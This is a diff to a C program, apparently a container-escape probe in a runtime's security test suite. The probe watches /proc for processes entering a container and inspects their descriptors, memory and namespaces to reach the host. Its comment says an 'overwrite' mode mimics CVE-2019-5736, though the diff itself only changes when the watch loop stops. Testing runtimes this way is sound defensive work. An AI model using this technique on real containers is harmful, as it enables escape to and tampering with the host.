@@ -2,13 +2,15 @@
  * watch SECONDS [overwrite]: sits in the container and reaches for every process that appears
  * beside it, which prov's are for a moment while they enter: for their program, folders,
  * descriptors, memory and namespaces. What lies on another file system than all that the container
- * has is the host's. With "overwrite" it also tries to write into the programs, as CVE-2019-5736
- * did. Without, it lasts longer until it has seen 20 of them, five minutes at most.
+ * has is the host's. It lasts that long, and longer until it has seen 20 of them, five minutes at
+ * most. With "overwrite" it lasts until the file /enough exists, and then also tries to write into
+ * the programs, as CVE-2019-5736 did.
  */
 #include "attack.h"
 
 #include <dirent.h>
 #include <fcntl.h>
+#include <stdbool.h>
 #include <stdlib.h>
 #include <sys/stat.h>
 #include <time.h>
@@ -139,6 +141,11 @@ static void look_at(int pid)
 	close(fd);
 }
 
+static bool has_enough(bool told)
+{
+	return told ? seen > 0 && access("/enough", F_OK) == 0 : seen >= 20;
+}
+
 int main(int argc, char **argv)
 {
 	struct timespec now;
@@ -152,7 +159,7 @@ int main(int argc, char **argv)
 	look_at(1);
 	puts("ready");
 	fflush(stdout);
-	while (now.tv_sec < end || (argc <= 2 && seen < 20 && now.tv_sec < end + 300)) {
+	while (now.tv_sec < end || (now.tv_sec < end + 300 && !has_enough(argc > 2))) {
 		DIR *dir = opendir("/proc");
 		struct dirent *e;
 		while (dir && (e = readdir(dir))) {
